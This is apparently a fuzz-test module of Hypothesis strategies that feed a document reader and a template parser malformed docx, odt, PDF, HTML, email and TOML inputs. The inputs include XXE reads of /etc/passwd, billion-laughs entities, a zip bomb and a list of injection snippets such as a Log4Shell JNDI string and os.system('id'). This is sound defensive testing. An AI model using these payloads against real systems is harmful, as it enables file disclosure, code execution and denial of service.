"""Hypothesis strategies for hostile input: every document format Katib reads, and templates.

A case is (target, suffix, payload bytes). Targets: "read" (katib.core.documents
read_document) and "template" (katib.core.drafting.templates parse/load).
Structured cases build real packages (docx, odt zips; PDFs; e-mails; HTML;
TOML) with random content and one of the classic attacks; mutated cases start
from real files (the evaluation documents and the bundled templates).
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

from hypothesis import strategies as st

ROOT = Path(__file__).resolve().parents[2]
EVAL_DOCS = Path(__import__("os").environ.get("KATIB_EVAL", ROOT.parent / "shared" / "eval")) \
    / "documents"
TEMPLATES = ROOT / "resources" / "templates"

TEXT = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=120)
WORDS = st.sampled_from(["Objet", "Monsieur", "الموضوع", "السيد", "Royaume du Maroc", "&amp;",
                         "<", ">", "\u202e", "\u200f", "\x00", "\ufeff", "ﷺ", "𝒜", " ", "\t"])
SOME_TEXT = st.one_of(TEXT, st.lists(WORDS, max_size=12).map(" ".join))

# True about once in 40 draws (hypothesis favours small integers, so not integers(0, n) == 0).
RARELY = st.sampled_from([False] * 39 + [True])

ATTACKS = ["none", "entity", "external_entity", "billion_laughs", "deep_nesting",
           "huge_text", "bad_encoding", "broken_xml", "declared_bomb"]


def _esc(text: str) -> str:
    return (text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
            .replace('"', "&quot;"))


def _xml_text(text: str) -> str:
    # XML 1.0 forbids most control characters: keep some to test the parser, drop the rest.
    return _esc("".join(c for c in text if c in "\t\n\r" or ord(c) >= 0x20))


def _prologue(attack: str) -> tuple[str, str]:
    """(DOCTYPE to put before the root, text to put in the first paragraph)."""
    if attack == "entity":
        return '<!DOCTYPE d [<!ENTITY x "expanded-entity">]>', "&x;"
    if attack == "external_entity":
        return '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"
    if attack == "billion_laughs":
        lol = '<!ENTITY l0 "lol">' + "".join(
            f'<!ENTITY l{i} "{("&l%d;" % (i - 1)) * 10}">' for i in range(1, 10))
        return f"<!DOCTYPE d [{lol}]>", "&l9;"
    return "", ""


def _wrap_attack(attack: str, body: str, depth_tag: tuple[str, str]) -> str:
    if attack == "deep_nesting":
        open_tag, close_tag = depth_tag
        return open_tag * 5000 + body + close_tag * 5000
    if attack == "huge_text":
        return body + "A" * 3_000_000
    return body


W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
DOCX_TYPES = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
              'package/2006/content-types"><Default Extension="rels" ContentType="application/'
              'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
              'ContentType="application/xml"/><Override PartName="/word/document.xml" '
              'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.'
              'document.main+xml"/></Types>')
DOCX_RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
             'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
             'schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
             'Target="word/document.xml"/></Relationships>')


BOMB_MB = 64  # the fuzz limits refuse more than 32 MB unpacked
_BOMB: list[bytes] = []


def _bomb_base() -> bytes:
    """A zip holding 64 MB of zeros in ~64 KB, built once and reused by every bomb case."""
    if not _BOMB:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as package:
            with package.open("word/media/bomb.bin", "w", force_zip64=True) as member:
                chunk = bytes(1024 * 1024)
                for _ in range(BOMB_MB):
                    member.write(chunk)
        _BOMB.append(buffer.getvalue())
    return _BOMB[0]


def _zip(members: dict[str, bytes], declared_bomb: bool = False) -> bytes:
    buffer = io.BytesIO(_bomb_base() if declared_bomb else b"")
    with zipfile.ZipFile(buffer, "a" if declared_bomb else "w",
                         compression=zipfile.ZIP_DEFLATED) as package:
        for name, data in members.items():
            package.writestr(name, data)
    return buffer.getvalue()


@st.composite
def docx_cases(draw):
    attack = draw(st.sampled_from(["none"] * 6 + ATTACKS))
    doctype, first = _prologue(attack)
    kinds = st.sampled_from(["p", "heading", "list", "table", "nested_table", "tab", "break",
                             "field", "del", "ins"])
    parts = draw(st.lists(st.tuples(kinds, SOME_TEXT), max_size=15))
    xml_parts = [f"<w:p><w:r><w:t>{first}</w:t></w:r></w:p>"] if first else []
    for kind, text in parts:
        t = _xml_text(text)
        if kind == "heading":
            xml_parts.append(f'<w:p><w:pPr><w:pStyle w:val="Heading1"/></w:pPr><w:r><w:t>{t}'
                             "</w:t></w:r></w:p>")
        elif kind == "list":
            xml_parts.append('<w:p><w:pPr><w:numPr><w:ilvl w:val="9999"/><w:numId w:val="-1"/>'
                             f"</w:numPr></w:pPr><w:r><w:t>{t}</w:t></w:r></w:p>")
        elif kind in ("table", "nested_table"):
            cell = f"<w:tc><w:p><w:r><w:t>{t}</w:t></w:r></w:p></w:tc>"
            table = f"<w:tbl><w:tr>{cell}</w:tr></w:tbl>"
            if kind == "nested_table":
                for _ in range(draw(st.integers(1, 60))):
                    table = f"<w:tbl><w:tr><w:tc>{table}<w:p/></w:tc></w:tr></w:tbl>"
            xml_parts.append(table)
        elif kind == "tab":
            xml_parts.append(f"<w:p><w:r><w:tab/><w:t>{t}</w:t><w:br/></w:r></w:p>")
        elif kind == "field":
            xml_parts.append(f'<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;http://192.0.2.1/x&quot;">'
                             f"<w:r><w:t>{t}</w:t></w:r></w:fldSimple></w:p>")
        elif kind in ("del", "ins"):
            xml_parts.append(f'<w:p><w:{kind} w:id="1"><w:r><w:delText>{t}</w:delText>'
                             f"<w:t>{t}</w:t></w:r></w:{kind}></w:p>")
        else:
            xml_parts.append(f"<w:p><w:r><w:t xml:space=\"preserve\">{t}</w:t></w:r></w:p>")
    body = _wrap_attack(attack, "".join(xml_parts), ("<w:sdt><w:sdtContent>",
                                                     "</w:sdtContent></w:sdt>"))
    xml = (f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<w:document xmlns:w="{W}">'
           f"<w:body>{body}</w:body></w:document>")
    data = xml.encode("utf-8")
    if attack == "bad_encoding":
        data = data.replace(b"UTF-8", b"UTF-16", 1) + b"\xff\xfe\xc3"
    elif attack == "broken_xml":
        data = data[: draw(st.integers(0, max(0, len(data) - 1)))]
    members = {"[Content_Types].xml": DOCX_TYPES.encode(), "_rels/.rels": DOCX_RELS.encode(),
               "word/document.xml": data}
    if draw(st.booleans()):
        members["word/header1.xml"] = (f'<w:hdr xmlns:w="{W}"><w:p><w:r><w:t>'
                                       f"{_xml_text(draw(SOME_TEXT))}</w:t></w:r></w:p></w:hdr>").encode()
    return ("read", ".docx", _zip(members, declared_bomb=attack == "declared_bomb"))


ODT_NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
          'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
          'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"')
ODT_MANIFEST = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:'
                'oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:'
                'full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>'
                '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type='
                '"text/xml"/></manifest:manifest>')


@st.composite
def odt_cases(draw):
    attack = draw(st.sampled_from(["none"] * 6 + ATTACKS))
    doctype, first = _prologue(attack)
    kinds = st.sampled_from(["p", "h", "list", "table", "spaces", "note", "section"])
    parts = [f"<text:p>{first}</text:p>"] if first else []
    for kind, text in draw(st.lists(st.tuples(kinds, SOME_TEXT), max_size=15)):
        t = _xml_text(text)
        if kind == "h":
            parts.append(f'<text:h text:outline-level="{draw(st.integers(-5, 99))}">{t}</text:h>')
        elif kind == "list":
            parts.append(f"<text:list><text:list-item><text:p>{t}</text:p></text:list-item></text:list>")
        elif kind == "table":
            parts.append(f"<table:table><table:table-row><table:table-cell><text:p>{t}</text:p>"
                         "</table:table-cell></table:table-row></table:table>")
        elif kind == "spaces":
            count = draw(st.sampled_from(["3", "-1", "99999999999", "x", ""]))
            parts.append(f'<text:p>{t}<text:s text:c="{count}"/>{t}</text:p>')
        elif kind == "note":
            parts.append(f"<text:p><text:note><text:note-body><text:p>{t}</text:p>"
                         "</text:note-body></text:note></text:p>")
        elif kind == "section":
            parts.append(f"<text:section><text:p>{t}</text:p></text:section>")
        else:
            parts.append(f"<text:p>{t}</text:p>")
    body = _wrap_attack(attack, "".join(parts), ("<text:section>", "</text:section>"))
    xml = (f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<office:document-content {ODT_NS}>'
           f"<office:body><office:text>{body}</office:text></office:body>"
           "</office:document-content>")
    data = xml.encode("utf-8")
    if attack == "broken_xml":
        data = data[: draw(st.integers(0, max(0, len(data) - 1)))]
    members = {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": data,
               "META-INF/manifest.xml": ODT_MANIFEST.encode()}
    return ("read", ".odt", _zip(members, declared_bomb=attack == "declared_bomb"))


def _pdf(objects: list[bytes], xref: bool, root: int = 1) -> bytes:
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    start = out.tell()
    if xref:
        out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
        for offset in offsets:
            out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n"
              % (len(objects) + 1, root, start))
    return out.getvalue()


@st.composite
def pdf_cases(draw):
    attack = draw(st.sampled_from(["none", "deep_array", "deep_dict", "deep_kids", "kids_loop",
                                   "many_pages", "bad_stream", "huge_length", "no_xref"]))
    texts = draw(st.lists(SOME_TEXT, min_size=1, max_size=4))
    pages = max(1, len(texts)) if attack != "many_pages" else draw(st.integers(50, 400))
    # objects: 1 catalog, 2 pages tree, 3 font, then page/content pairs
    objects: list[bytes] = [b"<< /Type /Catalog /Pages 2 0 R >>", b"", b"<< /Type /Font "
                            b"/Subtype /Type1 /BaseFont /Helvetica >>"]
    kids = []
    for i in range(pages):
        text = texts[i % len(texts)].encode("latin-1", errors="replace").replace(b"\\", b"\\\\") \
            .replace(b"(", b"\\(").replace(b")", b"\\)")
        stream = b"BT /F1 12 Tf 72 720 Td (" + text + b") Tj ET"
        if attack == "bad_stream":
            stream = bytes(draw(st.binary(min_size=1, max_size=200)))
        length = len(stream) if attack != "huge_length" else 2**62
        content_number = len(objects) + 2
        extra = b""
        if attack == "deep_array":
            extra = b" /Junk " + b"[" * 20000 + b"]" * 20000
        elif attack == "deep_dict":
            extra = b" /Junk " + b"<< /A " * 5000 + b"1" + b" >>" * 5000
        objects.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << "
                       b"/Font << /F1 3 0 R >> >> /Contents %d 0 R%s >>" % (content_number, extra))
        kids.append(len(objects))
        objects.append(b"<< /Length %d >>\nstream\n" % length + stream + b"\nendstream")
    kid_refs = b" ".join(b"%d 0 R" % k for k in kids)
    if attack == "deep_kids":
        # A page tree nested thousands of levels deep.
        depth = draw(st.integers(200, 3000))
        first_tree = len(objects) + 1
        for level in range(depth):
            child = b"%d 0 R" % (first_tree + level + 1) if level < depth - 1 else kid_refs
            objects.append(b"<< /Type /Pages /Kids [" + child + b"] /Count %d >>" % pages)
        objects[1] = b"<< /Type /Pages /Kids [%d 0 R] /Count %d >>" % (first_tree, pages)
    elif attack == "kids_loop":
        objects[1] = b"<< /Type /Pages /Kids [2 0 R " + kid_refs + b"] /Count %d >>" % pages
    else:
        objects[1] = b"<< /Type /Pages /Kids [" + kid_refs + b"] /Count %d >>" % pages
    return ("read", ".pdf", _pdf(objects, xref=attack != "no_xref"))


@st.composite
def text_cases(draw):
    suffix = draw(st.sampled_from([".txt", ".md"]))
    encoding = draw(st.sampled_from(["utf-8", "utf-16", "utf-16-be", "cp1256", "cp1252",
                                     "utf-8-sig", "latin-1"]))
    text = draw(st.one_of(SOME_TEXT, st.lists(SOME_TEXT, max_size=30).map("\n".join)))
    data = text.encode(encoding, errors="ignore")
    if draw(st.booleans()):
        data += draw(st.binary(max_size=64))
    if draw(RARELY):
        data = b"#" * 10000 + b" title\n" + b"> " * 5000 + b"quote\n" + b"\n" * 20000
    return ("read", suffix, data)


@st.composite
def html_cases(draw):
    tags = st.sampled_from(["p", "h1", "h2", "li", "ul", "table", "tr", "td", "div", "span",
                            "script", "style", "iframe", "img", "a", "br", "b", "pre", "svg"])
    pieces = []
    for tag, text in draw(st.lists(st.tuples(tags, SOME_TEXT), max_size=25)):
        attr = draw(st.sampled_from(["", ' src="http://192.0.2.1/pixel.png"', ' dir="rtl"',
                                     ' href="javascript:alert(1)"', ' style="x"']))
        pieces.append(f"<{tag}{attr}>{_esc(text)}" + (f"</{tag}>" if draw(st.booleans()) else ""))
    if draw(RARELY):  # deep nesting is slow to read (see the report): keep it rare
        pieces.append("<div>" * 50000)
    head = draw(st.sampled_from(["", '<meta charset="cp1256">', '<meta charset="no-such">',
                                 '<!DOCTYPE html SYSTEM "http://192.0.2.1/x.dtd">']))
    return ("read", draw(st.sampled_from([".html", ".htm"])),
            (head + "".join(pieces)).encode("utf-8", errors="ignore"))


@st.composite
def eml_cases(draw):
    charset = draw(st.sampled_from(["utf-8", "windows-1256", "no-such-charset", "", "utf-7"]))
    encoding = draw(st.sampled_from(["8bit", "base64", "quoted-printable", "x-bogus"]))
    subject = draw(SOME_TEXT).replace("\n", " ").replace("\r", " ")
    body = draw(SOME_TEXT)
    if encoding == "base64" and draw(st.booleans()):
        body = __import__("base64").b64encode(body.encode()).decode()
    parts = draw(st.integers(0, 4))
    boundary = "BOUNDARY"
    lines = [f"From: {draw(SOME_TEXT)[:40]}", f"Subject: {subject}", "MIME-Version: 1.0"]
    if parts:
        lines.append(f'Content-Type: multipart/mixed; boundary="{boundary}"')
        lines.append("")
        for _ in range(parts):
            kind = draw(st.sampled_from(["text/plain", "text/html", "application/pdf",
                                         "message/rfc822", "multipart/alternative"]))
            lines += [f"--{boundary}", f"Content-Type: {kind}; charset={charset}",
                      f"Content-Transfer-Encoding: {encoding}", "", body]
        lines.append(f"--{boundary}--" if draw(st.booleans()) else "")
    else:
        lines += [f"Content-Type: text/plain; charset={charset}",
                  f"Content-Transfer-Encoding: {encoding}", "", body]
    return ("read", ".eml", "\r\n".join(lines).encode("utf-8", errors="ignore"))


def _seeds(pattern: str) -> list[Path]:
    return sorted(p for p in EVAL_DOCS.glob(pattern) if p.stat().st_size < 300_000) \
        if EVAL_DOCS.is_dir() else []


SEED_FILES = _seeds("*/*.docx") + _seeds("*/*.pdf")


@st.composite
def mutated_cases(draw):
    """A real file from the evaluation set, damaged: bytes flipped, cut, spliced, repeated."""
    seed = draw(st.sampled_from(SEED_FILES))
    data = bytearray(seed.read_bytes())
    for _ in range(draw(st.integers(1, 4))):
        if not data:
            data = bytearray(b"%")
        op = draw(st.sampled_from(["flip", "truncate", "splice", "repeat", "zero"]))
        at = draw(st.integers(0, max(0, len(data) - 1)))
        if op == "flip":
            data[at] = draw(st.integers(0, 255))
        elif op == "truncate":
            data = data[:at]
        elif op == "splice":
            data[at:at + draw(st.integers(1, 64))] = draw(st.binary(min_size=1, max_size=64))
        elif op == "repeat":
            data[at:at] = data[at:at + 256] * draw(st.integers(1, 20))
        else:
            data[at:at + 512] = bytes(min(512, len(data) - at))
    suffix = draw(st.sampled_from([seed.suffix, seed.suffix, ".docx", ".pdf", ".odt", ".txt"]))
    return ("read", suffix, bytes(data or b"\x00"))


TEMPLATE_TEXTS = sorted(p.read_text(encoding="utf-8") for p in TEMPLATES.glob("*.toml")) \
    if TEMPLATES.is_dir() else []
FORBIDDEN_SNIPPETS = ["{{ 7*7 }}", "{% for x in y %}", "<script>alert(1)</script>",
                      "__import__('os').system('id')", "${jndi:ldap://192.0.2.1/a}",
                      "eval(open('/etc/passwd').read())", "{__class__}", "{0.__globals__}",
                      "{recipient_name!r:>99999999}", "{unknown_field}", "{", "}", "\x00"]


@st.composite
def template_cases(draw):
    """A bundled template damaged line by line, or with a script slipped into a value."""
    lines = draw(st.sampled_from(TEMPLATE_TEXTS)).splitlines()
    for _ in range(draw(st.integers(1, 5))):
        op = draw(st.sampled_from(["delete", "duplicate", "swap", "inject", "unicode", "retype"]))
        at = draw(st.integers(0, max(0, len(lines) - 1)))
        if not lines:
            break
        if op == "delete":
            del lines[at]
        elif op == "duplicate":
            lines.insert(at, lines[at])
        elif op == "swap":
            other = draw(st.integers(0, len(lines) - 1))
            lines[at], lines[other] = lines[other], lines[at]
        elif op == "inject":
            snippet = draw(st.sampled_from(FORBIDDEN_SNIPPETS))
            cut = draw(st.integers(0, len(lines[at])))
            lines[at] = lines[at][:cut] + snippet + lines[at][cut:]
        elif op == "unicode":
            lines[at] += draw(SOME_TEXT)
        else:
            lines[at] = lines[at].replace('"', "", 1).replace("= ", "= [", 1)
    return ("template", ".toml", "\n".join(lines).encode("utf-8", errors="surrogatepass"))


TARGETS = {
    "docx": docx_cases(),
    "odt": odt_cases(),
    "pdf": pdf_cases(),
    "text": text_cases(),
    "html": html_cases(),
    "eml": eml_cases(),
    "mutated": mutated_cases(),
    "template": template_cases(),
}
